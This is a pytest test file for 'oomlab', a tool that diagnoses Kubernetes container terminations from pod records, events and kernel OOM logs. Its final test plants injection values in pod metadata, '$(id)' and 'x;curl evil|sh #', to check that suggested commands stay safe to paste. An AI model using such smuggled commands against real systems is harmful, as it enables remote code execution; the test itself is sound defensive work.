# SPDX-License-Identifier: Apache-2.0
"""oomlab diagnose where rows are weak: old words of the platform, kills that name nobody, codes that nobody wrote."""

import json

import pytest

END = "2026-11-22T11:58:00Z"


def pod(code=137, reason="Error", **more):
    ended = {"exitCode": code, "reason": reason, "startedAt": "2026-11-22T11:50:00Z", "finishedAt": END, **more}
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"namespace": "default", "name": "a", "uid": "0" * 36},
            "spec": {"nodeName": "n2", "containers": [
                {"name": "app", "resources": {"limits": {"memory": "512Mi"}}}]},
            "status": {"containerStatuses": [{
                "name": "app", "restartCount": 1, "containerID": "containerd://" + "a" * 64,
                "state": {"running": {"startedAt": "2026-11-22T12:00:00Z"}}, "lastState": {"terminated": ended}}]}}


def killing(at):
    return {"apiVersion": "v1", "kind": "List", "items": [{
        "apiVersion": "v1", "kind": "Event", "reason": "Killing", "type": "Normal", "count": 1,
        "message": "Container app failed liveness probe, will be restarted", "firstTimestamp": at, "lastTimestamp": at,
        "involvedObject": {"kind": "Pod", "namespace": "default", "name": "a", "fieldPath": "spec.containers{app}"},
        "metadata": {"name": "a.1", "namespace": "default"}}]}


def line(text, at="11:58:00"):
    return f"2026-11-22T{at}+0000 n1 kernel: {text}\n"


@pytest.fixture
def life(oomlab, tmp_path):
    """The first lifetime's end and the verdict."""
    def run(*sources):
        paths = []
        for number, source in enumerate(sources):
            paths.append(tmp_path / str(number))
            paths[-1].write_text(source if isinstance(source, str) else json.dumps(source), encoding="utf-8")
        result = oomlab.result("diagnose", "--format", "json", *paths)
        (arm,) = [arm for arm in result["arms"] if "a" in arm["name"] and arm["lifetimes"][0]["started_at"]]
        return arm["lifetimes"][0]["end"], arm["verdict"]
    return run


@pytest.mark.parametrize("reason, at, cause", [
    ("OOMKilled", "11:51:30", "oom-container-limit"), ("OOMKilled", "11:57:30", "oom-container-limit"),
    ("Error", "11:51:30", "unknown"), ("Error", "11:57:30", "killed-by-platform")])
def test_a_stop_is_about_the_end_that_it_made(life, reason, at, cause):
    """Kubernetes waits 30 s between SIGTERM and SIGKILL; its OOMKilled is the kernel's word."""
    end, _ = life(pod(reason=reason), killing(f"2026-11-22T{at}Z"))
    assert end["cause"] == cause and end["level"] in ("Strongly Suggested", "Not Proven")


KILLED = "Killed process 77 (firefox) total-vm:8kB, anon-rss:4kB, file-rss:0kB, shmem-rss:0kB"


@pytest.mark.parametrize("text, cause", [("Out of memory: " + KILLED, "oom-host"),
                                         ("Memory cgroup out of memory: " + KILLED, "oom-container-limit")])
def test_a_kill_that_names_no_cgroup_is_inferred_at_that_moment_only(life, text, cause):
    end, _ = life(pod(), line(text))
    assert (end["cause"], end["level"]) == (cause, "Inferred")
    for at in ("11:57:51", "11:58:09"):
        assert life(pod(), line(text, at))[0]["cause"] == "unknown"
    end, verdict = life(pod(143), line(text))
    assert end["cause"] == "signalled" and "child" not in json.dumps(verdict)


def test_what_never_started_is_no_ordinary_exit(life):
    end, verdict = life(pod(128, "StartError", message="container init was OOM-killed (memory limit too low?)"))
    assert (end["cause"], end["level"]) == ("unknown", "Not Proven")
    assert verdict["class"] == "inconclusive" and "137" not in verdict["summary"]


def test_the_platforms_word_for_a_child_is_not_observed(life):
    end, _ = life(pod(1, "OOMKilled"))
    assert (end["cause"], end["level"]) == ("exited", "Strongly Suggested")


def test_without_a_limit_it_was_none_of_its_own(life):
    """The pod's record of its settings has no limit: only the host, or a limit above it, can have been reached."""
    value = pod(reason="OOMKilled")
    del value["spec"]["containers"][0]["resources"]
    end, _ = life(value)
    assert (end["cause"], end["level"]) == ("oom-host", "Inferred")


def test_kills_in_a_log_alone_are_no_restarts(oomlab, tmp_path):
    lines = [line(f"oom-kill:constraint=CONSTRAINT_MEMCG,nodemask=(null),cpuset=/,mems_allowed=0,oom_memcg=/x,"
                  f"task_memcg=/x,task=postgres,pid={pid},uid=0", at)
             + line(f"Memory cgroup out of memory: Killed process {pid} (postgres) total-vm:8kB, anon-rss:4kB, "
                    f"file-rss:0kB, shmem-rss:0kB", at) for pid, at in ((71, "11:40:00"), (72, "11:50:00"))]
    (tmp_path / "log").write_text("".join(lines), encoding="utf-8")
    (arm,) = oomlab.result("diagnose", "--format", "json", tmp_path / "log")["arms"]
    assert (arm["oom_kills"], arm["restarts"]) == (2, 0)


DESCRIBED = """Name:             a
Namespace:        default
Containers:
  app:
    Container ID:   containerd://bbbb
    State:          Waiting
      Reason:       CrashLoopBackOff
    Last State:     Terminated
      Reason:       {reason}
      Exit Code:    137
      Started:      Sun, 22 Nov 2026 11:50:00 +0000
      Finished:     Sun, 22 Nov 2026 11:58:00 +0000
    Restart Count:  4
    Limits:
      memory:  128Mi
Events:
  Type     Reason     Age                From     Message
  ----     ------     ----               ----     -------
  Warning  Unhealthy  3m (x12 over 20m)  kubelet  Liveness probe failed: context deadline exceeded
  Normal   Killing    3m (x4 over 20m)   kubelet  Container app failed liveness probe, will be restarted
"""


@pytest.mark.parametrize("reason, cause, level", [("Error", "killed-by-platform", "Inferred"),
                                                  ("OOMKilled", "oom-container-limit", "Strongly Suggested")])
def test_described_events_have_no_time(oomlab, tmp_path, reason, cause, level):
    (tmp_path / "pod.txt").write_text(DESCRIBED.format(reason=reason), encoding="utf-8")
    result = oomlab.result("diagnose", "--format", "json", tmp_path / "pod.txt")
    end = result["arms"][0]["lifetimes"][0]["end"]
    assert (end["cause"], end["level"]) == (cause, level)
    assert any("a probe failed, 12 times in 1 row" in item["statement"] for item in result["evidence"])


def test_an_evicted_pod_is_not_advised_to_keep_its_memory(oomlab, tmp_path):
    value = pod()
    status = value["status"]["containerStatuses"][0]
    status["state"] = status.pop("lastState")
    value["status"] |= {"phase": "Failed", "reason": "Evicted", "message": "The node was low on resource: memory."}
    (tmp_path / "pod.json").write_text(json.dumps(value), encoding="utf-8")
    result = oomlab.result("diagnose", "--format", "json", tmp_path / "pod.json", status=0)
    assert "another limit would change nothing" not in result["recommendation"]["reason"]
    assert "evicted" in result["recommendation"]["reason"]


def test_a_suggested_command_can_be_pasted(oomlab, tmp_path):
    value = pod(reason="OOMKilled")
    value["metadata"] |= {"namespace": "$(id)", "name": "x;curl evil|sh #"}
    (tmp_path / "pod.json").write_text(json.dumps(value), encoding="utf-8")
    result = oomlab.result("diagnose", "--format", "json", tmp_path / "pod.json")
    assert "--namespace APP --pod POD " in result["arms"][0]["verdict"]["would_settle"]
